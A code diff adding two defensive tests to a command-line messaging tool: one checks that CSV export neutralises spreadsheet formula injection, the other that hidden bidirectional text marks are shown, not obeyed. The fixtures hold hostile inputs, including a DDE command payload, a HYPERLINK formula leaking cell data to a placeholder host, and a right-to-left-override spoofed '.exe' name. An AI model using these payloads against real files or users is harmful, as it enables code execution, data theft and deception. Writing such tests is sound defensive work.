@@ -516,3 +516,24 @@ def test_list_writes_dates_in_the_users_language(cli) -> None:
     text = cli.ok("list")
     assert "Do., 26. Nov., 10:00" in text  # the window's formatter, not strftime
     assert "Thu 26 Nov" not in text
+
+
+def test_csv_export_makes_formula_cells_text(cli):
+    """OWASP CSV injection: cells a spreadsheet would run get a leading quote (issue 21)."""
+    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-1+cmd",
+               "@SUM(1)"]
+    ids = [cli.add(f"--body={subject}", "--", subject) for subject in hostile]
+    table = {r["id"]: r for r in csv.DictReader(io.StringIO(cli.ok("export", "--format",
+                                                                    "csv")))}
+    assert [table[i]["subject"] for i in ids] == ["'" + s for s in hostile]
+    assert [table[i]["body"] for i in ids] == ["'" + s for s in hostile]
+    assert [r["subject"] for r in cli.json("export", "--format", "json")] == hostile
+
+
+def test_list_shows_hidden_direction_marks_instead_of_obeying_them(cli):
+    cli.add("invoice\u202efdp.exe", "--from", "eve\u2066@x.example")
+    shown = cli.ok("list")
+    assert "\u202e" not in shown
+    assert "\u2066" not in shown
+    assert "invoice\ufffdfdp.exe" in shown
+    assert "\u202e" not in cli.ok("search", "invoice")
